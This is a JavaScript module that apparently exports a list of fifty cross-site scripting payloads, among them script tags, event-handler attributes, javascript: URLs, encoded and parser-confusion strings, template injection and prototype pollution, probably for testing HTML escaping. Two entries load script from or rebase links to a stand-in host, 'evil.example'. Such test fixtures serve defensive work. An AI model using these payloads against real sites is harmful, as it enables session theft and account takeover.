const RUN = 'window.pwned=1';

const scripts = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `"><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `<script src=data:text/javascript,${RUN}></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<<script>${RUN}//<</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mtext></table></mtext><script>${RUN}</script>`,
];

const handlers = [
  'img src=x onerror',
  'svg onload',
  'body onload',
  'video src=x onerror',
  'audio src=x onerror',
  'input autofocus onfocus',
  'details open ontoggle',
  'iframe onload',
  'object data=x onerror',
  'marquee onstart',
  'select autofocus onfocus',
  'div onpointerover',
  'style onload',
  'link rel=stylesheet href=x onerror',
  'form onformdata',
].map((start) => `<${start}="${RUN}">`);

const links = [
  `<a href="javascript:${RUN}">x</a>`,
  `javascript:${RUN}`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<base href="//evil.example/">`,
  `[x](javascript:${RUN})`,
];

const tricks = [
  `'-(${RUN})-'`,
  '"; window.pwned=1; //',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template is what it pretends to be
  '${window.pwned=1}',
  '{{constructor.constructor("window.pwned=1")()}}',
  '<img src=`x`onerror=window.pwned=1>',
  '&lt;script&gt;window.pwned=1&lt;/script&gt;',
  '&#60;img src=x onerror=window.pwned=1&#62;',
  '\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e',
  '%3Cscript%3Ewindow.pwned=1%3C/script%3E',
  '<!--<img src="--><img src=x onerror=window.pwned=1//">',
  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
  '<template><script>window.pwned=1</script></template>',
  '\u202Egnp.exe\u202D <b>bidi</b>',
  '<x contenteditable onblur=window.pwned=1>x',
  '__proto__[pwned]=1',
];

/** Fifty texts that become code or markup wherever text is taken for HTML. */
export const payloads = [...scripts, ...handlers, ...links, ...tricks];
